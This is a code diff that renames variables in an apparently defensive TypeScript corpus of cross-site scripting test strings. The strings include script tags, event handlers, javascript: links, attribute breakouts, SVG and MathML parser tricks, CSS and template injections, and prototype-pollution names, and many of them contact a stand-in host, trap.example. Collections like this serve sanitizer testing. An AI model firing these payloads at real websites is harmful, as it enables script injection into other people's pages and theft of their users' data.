@@ -1,11 +1,11 @@
-/** The host that every payload calls when it comes to life. */
+/** The host that every payload contacts if it runs. */
 export const TRAP = 'trap.example';
 
-/** Leaves a mark in the page, and calls the trap. */
+/** Leaves a mark in the page and contacts the trap. */
 const RUN = `(window.ran=1,new Image().src='https://${TRAP}/ran')`;
-const QUOTELESS = `window.ran=1`;
-const CODED = [...QUOTELESS].map((letter) => `&#${letter.charCodeAt(0)};`).join('');
-const HEX = [...QUOTELESS].map((letter) => `\\x${letter.charCodeAt(0).toString(16)}`).join('');
+const RUN_UNQUOTED = `window.ran=1`;
+const CODED = [...RUN_UNQUOTED].map((letter) => `&#${letter.charCodeAt(0)};`).join('');
+const HEX = [...RUN_UNQUOTED].map((letter) => `\\x${letter.charCodeAt(0).toString(16)}`).join('');
 
 const HANDLERS = [
   'onload',
@@ -25,7 +25,7 @@ const HANDLERS = [
   'oncontentvisibilityautostatechange',
 ];
 
-const BEARERS = [
+const ELEMENTS = [
   'img src=x',
   'svg',
   'body',
@@ -69,7 +69,7 @@ const SCHEMES = [
   'chrome-extension://',
 ];
 
-const BREAKOUTS = [
+const DELIMITERS = [
   '"',
   "'",
   '`',
@@ -88,8 +88,8 @@ const BREAKOUTS = [
   '\0">',
 ];
 
-/** Texts by class, in the order of how often they have been found to work elsewhere. */
-export const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
+/** Texts by class, the most common attacks first. */
+const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
   'a script': [
     `<script>${RUN}</script>`,
     `<SCRIPT>${RUN}</SCRIPT>`,
@@ -110,16 +110,21 @@ export const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
     `&#60;script&#62;${CODED}&#60;/script&#62;`,
   ],
   'an event handler': HANDLERS.map(
-    (handler, index) => `<${BEARERS[index % BEARERS.length]} ${handler}="${RUN}">`,
+    (handler, index) => `<${ELEMENTS[index % ELEMENTS.length]} ${handler}="${RUN}">`,
   ),
-  'an element that loads': BEARERS.map(
-    (bearer) => `<${bearer.replace(/=x/, `=https://${TRAP}/x`)} onerror=${QUOTELESS} onload=${QUOTELESS}>`,
+  'an element that loads': ELEMENTS.map(
+    (element) =>
+      `<${element.replace(/=x/, `=https://${TRAP}/x`)} onerror=${RUN_UNQUOTED} onload=${RUN_UNQUOTED}>`,
   ),
   'an address': SCHEMES.map((scheme) => `${scheme}${RUN}`),
-  'an address in a link': SCHEMES.map((scheme) => `<a href="${scheme}${QUOTELESS}" autofocus>read more</a>`),
-  'a way out of an attribute': BREAKOUTS.map((breakout) => `${breakout}<img src=x onerror=${QUOTELESS}>`),
-  'a way out of an attribute, staying in the tag': BREAKOUTS.slice(0, 6).map(
-    (breakout) => `x${breakout} autofocus onfocus=${QUOTELESS} x=${breakout}`,
+  'an address in a link': SCHEMES.map(
+    (scheme) => `<a href="${scheme}${RUN_UNQUOTED}" autofocus>read more</a>`,
+  ),
+  'the end of an attribute and its tag': DELIMITERS.map(
+    (delimiter) => `${delimiter}<img src=x onerror=${RUN_UNQUOTED}>`,
+  ),
+  'the end of an attribute': DELIMITERS.slice(0, 6).map(
+    (delimiter) => `x${delimiter} autofocus onfocus=${RUN_UNQUOTED} x=${delimiter}`,
   ),
   'markup that changes the page': [
     `<base href=https://${TRAP}/>`,
@@ -142,23 +147,23 @@ export const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
     `<a ping=https://${TRAP}/ping href=/>`,
     `<template shadowrootmode=open><img src=https://${TRAP}/shadow></template>`,
     `<plaintext>`,
-    `<xmp><p title="</xmp><img src=x onerror=${QUOTELESS}>">`,
-    `<noscript><p title="</noscript><img src=x onerror=${QUOTELESS}>">`,
-    `<!--><img src=x onerror=${QUOTELESS}>-->`,
-    `<![CDATA[<img src=x onerror=${QUOTELESS}>]]>`,
+    `<xmp><p title="</xmp><img src=x onerror=${RUN_UNQUOTED}>">`,
+    `<noscript><p title="</noscript><img src=x onerror=${RUN_UNQUOTED}>">`,
+    `<!--><img src=x onerror=${RUN_UNQUOTED}>-->`,
+    `<![CDATA[<img src=x onerror=${RUN_UNQUOTED}>]]>`,
     `<?xml-stylesheet href="https://${TRAP}/x.xsl"?>`,
   ],
   'foreign markup': [
     `<svg><script>${RUN}</script></svg>`,
-    `<svg><animate onbegin=${QUOTELESS} attributeName=x dur=1s>`,
-    `<svg><set attributeName=href to=javascript:${QUOTELESS}>`,
-    `<svg><a href=javascript:${QUOTELESS}><text>x</text></a></svg>`,
+    `<svg><animate onbegin=${RUN_UNQUOTED} attributeName=x dur=1s>`,
+    `<svg><set attributeName=href to=javascript:${RUN_UNQUOTED}>`,
+    `<svg><a href=javascript:${RUN_UNQUOTED}><text>x</text></a></svg>`,
     `<svg><use href="https://${TRAP}/u.svg#x"></use></svg>`,
     `<svg><image href=https://${TRAP}/i.png></image></svg>`,
     `<svg><foreignObject><iframe src=https://${TRAP}/f></iframe></foreignObject></svg>`,
-    `<svg></p><style><a id="</style><img src=x onerror=${QUOTELESS}>">`,
-    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${QUOTELESS}&gt;">`,
-    `<math href=javascript:${QUOTELESS}>x</math>`,
+    `<svg></p><style><a id="</style><img src=x onerror=${RUN_UNQUOTED}>">`,
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN_UNQUOTED}&gt;">`,
+    `<math href=javascript:${RUN_UNQUOTED}>x</math>`,
     `<math><annotation-xml encoding=text/html><script>${RUN}</script></annotation-xml></math>`,
     `<svg><desc><iframe src=https://${TRAP}/d></desc></svg>`,
   ],
@@ -171,22 +176,22 @@ export const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
     `</style><style>body{display:none}`,
     `}body{display:none}`,
     `<style>@font-face{font-family:x;src:url(https://${TRAP}/f)}*{font-family:x}</style>`,
-    `expression(${QUOTELESS})`,
+    `expression(${RUN_UNQUOTED})`,
     `<link rel=stylesheet href=https://${TRAP}/l.css>`,
   ],
   'a template': [
-    `{{constructor.constructor('${QUOTELESS}')()}}`,
-    `\${${QUOTELESS}}`,
-    `<%= ${QUOTELESS} %>`,
-    `#{${QUOTELESS}}`,
-    `[[${QUOTELESS}]]`,
+    `{{constructor.constructor('${RUN_UNQUOTED}')()}}`,
+    `\${${RUN_UNQUOTED}}`,
+    `<%= ${RUN_UNQUOTED} %>`,
+    `#{${RUN_UNQUOTED}}`,
+    `[[${RUN_UNQUOTED}]]`,
     `$1 $2 $NAME$ $COUNT$ $$`,
     `__MSG_extensionName__`,
     `%s %d %o %c`,
     `\${window.ran=1}`,
     `{0} {id} {lang}`,
   ],
-  'a name that programs trip over': [
+  'a name with a special meaning': [
     '__proto__',
     'constructor',
     'prototype',
@@ -222,9 +227,8 @@ export const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
     '<'.repeat(5_000),
     '&'.repeat(5_000),
     '<b>'.repeat(2_000),
-    `${'<div>'.repeat(500)}<img src=x onerror=${QUOTELESS}>`,
+    `${'<div>'.repeat(500)}<img src=x onerror=${RUN_UNQUOTED}>`,
   ],
 };
 
-/** All of them. */
 export const TEXTS: readonly string[] = Object.values(PAYLOADS).flat();
